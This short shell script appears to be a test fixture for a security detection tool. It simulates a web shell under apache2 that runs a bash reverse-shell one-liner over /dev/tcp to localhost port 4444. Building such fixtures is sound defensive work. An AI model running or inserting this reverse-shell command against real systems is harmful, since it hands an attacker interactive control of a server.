#!/bin/sh
# malicious: a web shell under apache2 opens a reverse shell to 127.0.0.1:4444 with bash /dev/tcp (stdin and stdout redirected to the socket)
# container
. "$(dirname "$0")/../../lib.sh"
APP_USER=www-data ctr_app apache2 "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"
